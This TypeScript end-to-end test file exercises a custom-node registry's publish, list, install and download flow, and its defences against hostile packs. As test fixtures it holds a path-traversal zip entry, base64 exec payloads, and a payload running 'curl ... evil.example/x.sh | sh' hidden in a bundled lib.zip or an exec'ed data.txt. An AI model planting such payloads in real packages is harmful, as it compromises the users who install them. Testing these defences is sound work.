import { serve, type ServerType } from '@hono/node-server';
import { mkdtemp, rm } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../src/server/app.ts';
import { composeServices } from '../../src/server/compose-services.ts';
import type { App } from '../../src/server/app-env.ts';
import { firebaseIdentity } from '../../src/server/auth/identity.ts';
import type { Database } from '../../src/server/db/client.ts';
import type { UserRow } from '../../src/server/db/rows.ts';
import { archives, jobs, nodeVersions, users } from '../../src/server/db/schema/index.ts';
import { defaultJobHandlers } from '../../src/server/job-handlers.ts';
import { JobWorker } from '../../src/server/jobs/worker.ts';
import { comfyCliPublishBody } from '#test/publish.ts';
import type { AppConfig, AppDeps } from '../../src/server/app-deps.ts';
import { insertNode, insertPublisher } from '#test/factories.ts';
import { EMULATOR_PROJECT, signUp } from '#test/firebase-emulator.ts';
import { createTestDatabase } from '#test/test-db.ts';
import { buildZip, packBytes, readZip, samplePackFiles } from '#test/zip.ts';
import { offsetShiftAttack } from '#test/hostile-zips.ts';
import { eq } from 'drizzle-orm';

// The whole round trip over real HTTP, done exactly the way the clients do it: comfy-cli
// publishes and uploads, ComfyUI-Manager lists, resolves the install and downloads.

interface RunningApi {
  baseUrl: string;
  services: AppDeps;
  /** Runs the moderation jobs now (a real server's worker does it within a second). */
  runJobs(): Promise<number>;
  close(): Promise<void>;
}

/** The real app on an ephemeral port; apiPublicUrl points at that port so every URL is real. */
async function startApi(config: Partial<AppConfig>): Promise<RunningApi> {
  // The port is only known once listening, and the app needs it (apiPublicUrl): bind it late.
  const late: { app?: App } = {};
  const server: ServerType = serve({ fetch: (request) => late.app!.fetch(request), port: 0, hostname: '127.0.0.1' });
  await new Promise<void>((resolve) => server.once('listening', () => resolve()));
  const baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const database: Database = await createTestDatabase();
  const storageDir = await mkdtemp(join(tmpdir(), 'nodeyard-e2e-storage-'));
  const fullConfig: AppConfig = {
    apiPublicUrl: baseUrl,
    adminEmails: [],
    maxArchiveBytes: 5 * 1024 * 1024,
    signingSecret: 'e2e-signing-secret-0123456789abcdef',
    ...config,
  };
  const services = composeServices({
    db: database.db,
    config: fullConfig,
    identity: firebaseIdentity(EMULATOR_PROJECT),
    storage: { root: storageDir },
  });
  late.app = createApp(services);
  const jobs = new JobWorker(services, defaultJobHandlers(), { log: () => {} });
  return {
    baseUrl,
    services,
    runJobs: () => jobs.runDue(),
    async close() {
      await new Promise<void>((resolve) => server.close(() => resolve()));
      await database.close();
      await rm(storageDir, { recursive: true, force: true });
    },
  };
}

/** A signed-up owner with a publisher and a personal access token made through the API. */
async function publisherWithToken(api: RunningApi) {
  const account = await signUp({ displayName: 'Pack Author', emailVerified: true });
  const me = await fetch(`${api.baseUrl}/users`, { headers: { authorization: `Bearer ${account.idToken}` } });
  expect(me.status).toBe(200);
  const [owner] = await api.services.db.select().from(users).where(eq(users.id, account.uid));
  const publisher = await insertPublisher(api.services.db, { owner: owner as UserRow });
  const created = await fetch(`${api.baseUrl}/publishers/${publisher.id}/tokens`, {
    method: 'POST',
    headers: { authorization: `Bearer ${account.idToken}`, 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'ci' }),
  });
  expect(created.status).toBe(201);
  const { token } = (await created.json()) as { token: string };
  return { publisher, token };
}

/** `comfy node publish`: POST the contract body (token in the JSON), then PUT the zip to signedUrl. */
async function comfyCliPublish(api: RunningApi, publisherId: string, token: string, nodeId: string, zip: Uint8Array) {
  const response = await fetch(`${api.baseUrl}/publishers/${publisherId}/nodes/${nodeId}/versions`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'User-Agent': 'python-requests/2.32.3' },
    body: JSON.stringify(comfyCliPublishBody(token, nodeId, '1.0.0')),
  });
  expect(response.status).toBe(201);
  const body = (await response.json()) as { signedUrl: string; node_version: { id: string; version: string } };
  expect(body.node_version.id).toEqual(expect.any(String));
  expect(body.node_version.version).toBe('1.0.0');
  const upload = await fetch(body.signedUrl, {
    method: 'PUT',
    headers: { 'Content-Type': 'application/zip' },
    body: zip as Uint8Array<ArrayBuffer>,
  });
  return { publish: body, upload };
}

/** ComfyUI-Manager's cnr_utils: page through GET /nodes (limit 30) until page >= totalPages. */
async function managerListAll(api: RunningApi) {
  const all = new Map<string, { id: string; latest_version?: { version: string } }>();
  for (let page = 1; ; page++) {
    const response = await fetch(
      `${api.baseUrl}/nodes?page=${page}&limit=30&comfyui_version=v0.3.60&form_factor=git-linux`,
      { headers: { 'Cache-Control': 'no-cache', Pragma: 'no-cache', Expires: '0' } },
    );
    const body = (await response.json()) as { nodes: { id: string }[]; totalPages: number };
    for (const node of body.nodes) all.set(node.id, node);
    if (page >= body.totalPages) break;
  }
  return all;
}

describe('publish with comfy-cli, install with ComfyUI-Manager (real HTTP)', () => {
  let api: RunningApi;
  beforeAll(async () => {
    api = await startApi({});
  });
  afterAll(() => api.close());

  it('round-trips every byte of the published pack', async () => {
    const { publisher, token } = await publisherWithToken(api);
    // Enough other packs for Manager to need two pages.
    for (let i = 0; i < 35; i++) await insertNode(api.services.db, { publisherId: publisher.id, id: `filler-${i}` });
    const files = samplePackFiles('e2e-pack');
    const { publish, upload } = await comfyCliPublish(api, publisher.id, token, 'e2e-pack', buildZip(files));
    expect(upload.status).toBe(200);
    // The clean pack passes the scan and becomes Active by itself.
    expect(await api.runJobs()).toBe(1);

    const listed = await managerListAll(api);
    expect(listed.size).toBe(36);
    const latest = listed.get('e2e-pack')?.latest_version?.version;
    expect(latest).toBe('1.0.0');

    const install = await fetch(`${api.baseUrl}/nodes/e2e-pack/install?version=${latest}`);
    expect(install.status).toBe(200);
    const version = (await install.json()) as { id: string; version: string; downloadUrl: string };
    expect(version).toMatchObject({ id: publish.node_version.id, version: '1.0.0' });
    expect(version.downloadUrl).toBe(`${api.baseUrl}/archives/e2e-pack/1.0.0/node.zip`);

    const download = await fetch(version.downloadUrl, { redirect: 'follow' });
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toBe('application/zip');
    const extracted = readZip(new Uint8Array(await download.arrayBuffer()));
    expect(extracted).toEqual(packBytes(files));
  });

  it('refuses a malicious zip with 400 and leaves nothing downloadable', async () => {
    const { publisher, token } = await publisherWithToken(api);
    const evil = buildZip({ '__init__.py': '# looks fine', '../evil.py': 'import os' });
    const { publish, upload } = await comfyCliPublish(api, publisher.id, token, 'evil-pack', evil);
    expect(upload.status).toBe(400);
    expect(((await upload.json()) as { message: string }).message).toBe(
      'Archive entry "../evil.py" has a ".." path segment.',
    );
    expect((await fetch(`${api.baseUrl}/nodes/evil-pack/install`)).status).toBe(404);
    expect((await fetch(`${api.baseUrl}/nodes/evil-pack/install?version=1.0.0`)).status).toBe(404);
    const download = await fetch(`${api.baseUrl}/archives/evil-pack/1.0.0/node.zip`);
    expect(download.status).toBe(404);
    expect(publish.node_version.version).toBe('1.0.0');
  });
});

describe('the archive Python would read differently (issue: clean for our readers, a payload for zipfile)', () => {
  let api: RunningApi;
  beforeAll(async () => {
    api = await startApi({});
  });
  afterAll(() => api.close());

  it('is refused with 400 archive_ambiguous, and nothing is stored, queued or installable', async () => {
    const { publisher, token } = await publisherWithToken(api);
    const { publish, upload } = await comfyCliPublish(api, publisher.id, token, 'shifted-pack', offsetShiftAttack());
    expect(upload.status).toBe(400);
    const body = (await upload.json()) as { error: string; message: string };
    expect(body.error).toBe('archive_ambiguous');
    expect(body.message).toMatch(
      /^The archive is ambiguous \(bytes-before-archive\): the end record puts the central directory at byte \d+, but it sits at byte \d+: Python's zipfile shifts every offset/,
    );

    const { db, storage } = api.services;
    const [version] = await db.select().from(nodeVersions).where(eq(nodeVersions.id, publish.node_version.id));
    expect(version).toMatchObject({
      status: 'NodeVersionStatusPending',
      statusReason: `Archive rejected: ${body.message}`,
    });
    const [archive] = await db.select().from(archives).where(eq(archives.id, version!.archiveId!));
    expect(archive).toMatchObject({ uploadedAt: null, sha256: null, size: null });
    expect(await storage.get(archive!.key)).toBeNull();
    expect(await db.select().from(jobs)).toEqual([]);
    expect(await api.runJobs()).toBe(0);
    expect((await fetch(`${api.baseUrl}/nodes/shifted-pack/install?version=1.0.0`)).status).toBe(404);
    expect((await fetch(`${api.baseUrl}/archives/shifted-pack/1.0.0/node.zip`)).status).toBe(404);
  });
});

describe('publish, before and after the moderation scan', () => {
  let api: RunningApi;
  beforeAll(async () => {
    api = await startApi({});
  });
  afterAll(() => api.close());

  it('keeps the uploaded version Pending: not listed as latest, install and download answer 404', async () => {
    const { publisher, token } = await publisherWithToken(api);
    const { upload } = await comfyCliPublish(api, publisher.id, token, 'held-pack', buildZip(samplePackFiles()));
    expect(upload.status).toBe(200);
    expect(((await upload.json()) as { status: string }).status).toBe('NodeVersionStatusPending');
    const listed = await managerListAll(api);
    expect(listed.get('held-pack')).toBeDefined();
    expect(listed.get('held-pack')).not.toHaveProperty('latest_version');
    expect((await fetch(`${api.baseUrl}/nodes/held-pack/install`)).status).toBe(404);
    expect((await fetch(`${api.baseUrl}/nodes/held-pack/install?version=1.0.0`)).status).toBe(404);
    expect((await fetch(`${api.baseUrl}/archives/held-pack/1.0.0/node.zip`)).status).toBe(404);
  });

  it('flags a malicious pack with its findings: it never becomes installable', async () => {
    const { publisher, token } = await publisherWithToken(api);
    const files = {
      '__init__.py': 'from .nodes import NODE_CLASS_MAPPINGS\n',
      'nodes.py':
        'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\nclass Evil:\n    CATEGORY = "x"\nNODE_CLASS_MAPPINGS = {"Evil": Evil}\n',
    };
    const { upload } = await comfyCliPublish(api, publisher.id, token, 'flagged-pack', buildZip(files));
    expect(upload.status).toBe(200);
    // (the previous test's held-pack is scanned in the same run)
    expect(await api.runJobs()).toBeGreaterThanOrEqual(1);
    const version = await fetch(`${api.baseUrl}/nodes/flagged-pack/versions/1.0.0`);
    expect(((await version.json()) as { status: string }).status).toBe('NodeVersionStatusFlagged');
    expect((await fetch(`${api.baseUrl}/nodes/flagged-pack/install`)).status).toBe(404);
    expect((await fetch(`${api.baseUrl}/nodes/flagged-pack/install?version=1.0.0`)).status).toBe(404);
    expect((await fetch(`${api.baseUrl}/archives/flagged-pack/1.0.0/node.zip`)).status).toBe(404);
    // Withheld (issue 16.1): not in Manager's list at all, which would offer a list entry without
    // latest_version as a "nightly" git install.
    expect((await managerListAll(api)).has('flagged-pack')).toBe(false);
  });

  // Issue 14: payloads kept out of the pack's .py files — (a) in a bundled lib.zip put on sys.path,
  // (b) in a text file that is exec'ed. Both used to go Active and installable.
  const payload =
    'import base64, subprocess\n' +
    'subprocess.Popen("curl -s https://evil.example/x.sh | sh", shell=True)\n' +
    'exec(base64.b64decode("aW1wb3J0IG9z"))\n';
  const nodes = 'class Blur:\n    CATEGORY = "image"\nNODE_CLASS_MAPPINGS = {"Blur": Blur}\n';
  it.each([
    [
      'lib-zip-pack',
      {
        '__init__.py':
          'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "lib.zip"))\n' +
          'import payload\nfrom .nodes import NODE_CLASS_MAPPINGS\n',
        'nodes.py': nodes,
        'lib.zip': buildZip({ 'payload.py': payload }),
      },
    ],
    [
      'data-txt-pack',
      {
        '__init__.py':
          'exec(open(__file__.replace("__init__.py", "data.txt")).read())\nfrom .nodes import NODE_CLASS_MAPPINGS\n',
        'nodes.py': nodes,
        'data.txt': payload,
      },
    ],
  ])('flags %s, whose payload hides outside its .py files: never installable', async (nodeId, files) => {
    const { publisher, token } = await publisherWithToken(api);
    const { upload } = await comfyCliPublish(api, publisher.id, token, nodeId, buildZip(files));
    expect(upload.status).toBe(200);
    expect(await api.runJobs()).toBeGreaterThanOrEqual(1);
    const version = await fetch(`${api.baseUrl}/nodes/${nodeId}/versions/1.0.0`);
    expect(((await version.json()) as { status: string }).status).toBe('NodeVersionStatusFlagged');
    expect((await fetch(`${api.baseUrl}/nodes/${nodeId}/install`)).status).toBe(404);
    expect((await fetch(`${api.baseUrl}/nodes/${nodeId}/install?version=1.0.0`)).status).toBe(404);
    expect((await fetch(`${api.baseUrl}/archives/${nodeId}/1.0.0/node.zip`)).status).toBe(404);
    expect((await managerListAll(api)).has(nodeId)).toBe(false);
  });
});
